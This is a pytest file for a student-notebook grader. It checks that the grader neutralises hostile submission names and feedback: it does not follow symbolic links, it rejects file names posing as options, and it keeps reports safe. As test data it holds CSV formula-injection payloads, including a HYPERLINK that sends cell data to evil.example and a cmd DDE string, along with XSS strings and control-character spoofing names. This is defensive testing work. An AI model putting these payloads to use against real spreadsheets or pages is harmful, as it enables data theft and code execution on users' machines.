"""The submissions folder is data and the reports are safe: symbolic links are not followed,
`.IPYNB` is graded, near-misses are named, no submission's name is read as an option or
overwritten, CSV cells never run as formulas and Markdown feedback renders no HTML or link.

None of these needs a box: the notebooks either cannot be read or hold no graded cell.
"""

import csv
import html
import io
import json
import os
import re
import unicodedata

import pytest

from nst_utils.cli import main
from nst_utils.grading import grader, report
from nst_utils.grading.diagnose import failed, one_line
from nst_utils.grading.functions import BY_NAME
from nst_utils.grading.grader import SubmissionGrade, grade_paths
from nst_utils.grading.sandbox import host
from nst_utils.grading.student import SOLVED

EMPTY = json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def no_box(monkeypatch):
    """These tests must grade without running a single box."""

    def refuse(*args, **kwargs):
        raise AssertionError("a box was started")

    monkeypatch.setattr(host, "run_submission", refuse)


def _empty(path):
    path.write_text(EMPTY)
    return path


def test_symbolic_links_are_not_followed_and_each_gets_a_row(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "solved.ipynb").write_bytes(SOLVED.read_bytes())
    folder = tmp_path / "class"
    folder.mkdir()
    _empty(folder / "alice.ipynb")
    (folder / "cheat.ipynb").symlink_to(SOLVED)
    (folder / "gone.ipynb").symlink_to(tmp_path / "no-such-file.ipynb")
    (folder / "erin").symlink_to(elsewhere, target_is_directory=True)
    (folder / "notes.txt").symlink_to(SOLVED)  # not a notebook, not a folder: no row
    rows = {row.student: row for row in grade_paths([folder], isolation=False)}
    assert sorted(rows) == ["alice", "cheat", "erin", "gone"]
    for name in ("cheat", "erin", "gone"):
        row = rows[name]
        assert row.points == 0 and "symbolic link" in row.error and "not followed" in row.error
        assert all("symbolic link" in grade.feedback for grade in row.grades.values())
    assert "to a folder" in rows["erin"].error
    # given on the command line (as a shell pattern would), a link is no more followed
    (row,) = grade_paths([folder / "cheat.ipynb"], isolation=False)
    assert row.student == "cheat" and row.points == 0 and "symbolic link" in row.error


def test_ipynb_in_any_case_is_graded_and_near_misses_are_named_in_one_warning(tmp_path, capsys):
    folder = tmp_path / "class"
    (folder / "sub").mkdir(parents=True)
    _empty(folder / "UPPER.IPYNB")
    _empty(folder / "sub" / "Mixed.IpYnB")
    _empty(folder / "alice.ipynb.txt")
    _empty(folder / "sub" / "bob.ipynb.json")
    found = grader.find_class([folder])
    assert [entry.student for entry in found.entries] == ["UPPER", "sub/Mixed"]
    (warning,) = found.warnings
    assert "alice.ipynb.txt" in warning and "sub/bob.ipynb.json" in warning
    out = tmp_path / "out"
    assert main(["grade", str(folder), "--no-isolation", "--json", str(out / "g.json")]) == 0
    err = capsys.readouterr().err
    warnings = [line for line in err.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 1 and "alice.ipynb.txt" in warnings[0]
    assert "sub/bob.ipynb.json" in warnings[0]
    students = [row["student"] for row in json.loads((out / "g.json").read_text())]
    assert students == ["UPPER", "sub/Mixed"]
    # a folder of near-misses only is refused, naming them
    only = tmp_path / "only"
    only.mkdir()
    _empty(only / "carol.ipynb.txt")
    assert main(["grade", str(only), "--no-isolation"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("error: no .ipynb notebooks") and "carol.ipynb.txt" in err
    assert "\n" not in err


def test_a_submission_named_like_an_option_is_never_read_as_one(tmp_path, monkeypatch, capsys):
    folder = tmp_path / "class"
    folder.mkdir()
    _empty(folder / "--csv=victim.ipynb")
    victim = (folder / "victim.ipynb").write_text(EMPTY.replace("{", '{"victim": 1, ', 1))
    _empty(folder / "alice.ipynb")
    before = (folder / "victim.ipynb").read_bytes()
    monkeypatch.chdir(folder)
    names = sorted(os.listdir("."))  # what `grade *.ipynb` passes
    assert victim and names[0] == "--csv=victim.ipynb"
    assert main(["grade", "--no-isolation", *names]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("error: --csv victim.ipynb") and "put -- before the paths" in err
    assert "\n" not in err
    assert (folder / "victim.ipynb").read_bytes() == before
    assert sorted(os.listdir(".")) == names  # nothing written beside them
    # with -- the file is a submission like any other, and its name stays data in every report
    out = tmp_path / "out"
    args = ["--json", str(out / "g.json"), "--csv", str(out / "g.csv")]
    assert main(["grade", "--no-isolation", *args, "--", *names]) == 0
    assert (folder / "victim.ipynb").read_bytes() == before
    rows = json.loads((out / "g.json").read_text())
    assert [row["student"] for row in rows] == ["--csv=victim", "alice", "victim"]
    with open(out / "g.csv", newline="") as handle:
        cells = [row[0] for row in csv.reader(handle)][1:]
    assert cells == ["'--csv=victim", "alice", "victim"]


@pytest.mark.parametrize(
    "option, target",
    [
        ("--csv", "class/alice.ipynb"),  # a submission
        ("--json", "class/new.IPYNB"),  # would be graded next time
        ("--gradebook", "class/alice.ipynb"),
        ("--db", "class/alice.ipynb"),
        ("--feedback", "class"),  # the folder given
        ("--csv", "class"),
    ],
)
def test_no_output_may_name_an_input(tmp_path, monkeypatch, capsys, option, target):
    folder = tmp_path / "class"
    folder.mkdir()
    _empty(folder / "alice.ipynb")
    before = sorted(os.listdir(folder))
    monkeypatch.chdir(tmp_path)
    assert main(["grade", "--no-isolation", option, target, "class"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"error: {option} ") and "\n" not in err
    assert sorted(os.listdir(folder)) == before
    assert (folder / "alice.ipynb").read_text() == EMPTY
    assert not (tmp_path / "nst-grades.sqlite").exists()  # refused before anything was written


def _row(student, feedback="correct", error=None):
    spec = BY_NAME["total_cost"].spec
    grades = {"total_cost": failed(spec, "x", feedback)}
    return SubmissionGrade(student, f"{student}.ipynb", grades, error)


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,1)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1\n=2",
]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised():
    rows = [_row(name, feedback="=cmd|' /C calc'!A0") for name in HOSTILE_NAMES]
    for text in (report.to_csv(rows), report.to_gradebook_csv(rows)):
        table = list(csv.reader(io.StringIO(text)))
        assert len(table) == 1 + len(HOSTILE_NAMES)  # no name split a row
        for row in table[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_START), cell
        names = [row[0] for row in table[1:]]
        expected = ["'" + report.clean_name(name) for name in HOSTILE_NAMES]
        assert names == expected
    feedback = list(csv.DictReader(io.StringIO(report.to_csv(rows))))[0]["total_feedback"]
    assert feedback == "'=cmd|' /C calc'!A0"


def test_csv_names_from_real_file_names_are_neutralised(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    names = ['=HYPERLINK("http:\\\\evil","x")', "+SUM(1,1)", "@cmd", "-x"]
    for name in names:
        _empty(folder / f"{name}.ipynb")
    rows = grade_paths([folder], isolation=False)
    for text in (report.to_csv(rows), report.to_gradebook_csv(rows)):
        cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
        assert sorted(cells) == sorted("'" + name for name in names)


ATTACKS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "![pixel](http://evil.example/p.png)",
    "<http://evil.example>",
    "<javascript:alert(1)>",
    "http://evil.example/a",
    "www.evil.example",
    "evil.example",
    "someone@evil.example",
    '<a href="javascript:alert(1)">x</a>',
    "&lt;b&gt; *bold* _it_ `code` ~~gone~~ | pipe",
    "[ref]\n\n[ref]: javascript:alert(1)",
)


def _renderers():
    renderers = []
    try:
        from markdown_it import MarkdownIt

        md = MarkdownIt("commonmark").enable("table")
        try:
            import linkify_it  # noqa: F401

            md = MarkdownIt("gfm-like")
        except ImportError:
            pass
        renderers.append(("markdown-it", md.render))
    except ImportError:
        pass
    try:
        import mistune

        # raw HTML allowed, bare URLs linked: the renderer most willing to render an attack
        markdown = mistune.create_markdown(escape=False, plugins=["table", "url"])
        renderers.append(("mistune", markdown))
    except ImportError:
        pass
    return renderers


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_feedback_renders_no_html_image_or_link(attack):
    renderers = _renderers()
    if not renderers:
        pytest.skip("no Markdown renderer (markdown-it-py, mistune) is installed")
    row = _row(attack, feedback=f"raises ValueError: {attack}", error=f"could not read {attack}")
    text = report.feedback_markdown(row)
    for name, render in renderers:
        rendered = render(text)
        tags = set(re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)", rendered))
        assert tags <= {"h1", "p", "strong", "table", "thead", "tbody", "tr", "th", "td", "code"}, (
            name,
            rendered,
        )
        assert "<table>" in rendered, (name, rendered)
        visible = html.unescape(re.sub(r"<[^>]*>", "", rendered))
        assert report.clean_name(attack) in visible, (name, rendered)
        assert one_line(f"raises ValueError: {attack}") in visible, (name, rendered)


def test_names_lose_control_characters_in_every_report(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    names = ["a\nz_victim  25  25  25  25  100 of 100", "b\r\x1b[31mred", "c\u202egpj", "d\tx"]
    for name in names:
        _empty(folder / f"{name}.ipynb")
    rows = grade_paths([folder], isolation=False)
    assert sorted(row.student for row in rows) == [
        "az_victim  25  25  25  25  100 of 100",
        "b[31mred",
        "cgpj",
        "dx",
    ]
    texts = {
        "csv": report.to_csv(rows),
        "gradebook": report.to_gradebook_csv(rows),
        "table": report.table(rows),
        "markdown": "".join(report.feedback_markdown(row) for row in rows),
    }
    for kind, text in texts.items():
        for line in text.splitlines():
            assert all(unicodedata.category(c)[0] != "C" for c in line), (kind, line)
    assert len(list(csv.reader(io.StringIO(texts["csv"])))) == 1 + len(names)
    for row in json.loads(report.to_json(rows)):
        for value in (row["student"], row["path"]):
            assert all(unicodedata.category(c)[0] != "C" for c in value)
